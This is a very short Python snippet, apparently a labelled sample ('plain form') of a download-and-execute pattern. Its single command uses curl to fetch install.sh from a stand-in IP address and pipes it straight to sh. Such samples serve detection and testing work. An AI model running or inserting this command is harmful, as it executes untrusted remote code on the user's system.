# Plain form: downloads a script and pipes it to a shell.
import os

os.system("curl -s http://203.0.113.9/install.sh | sh")
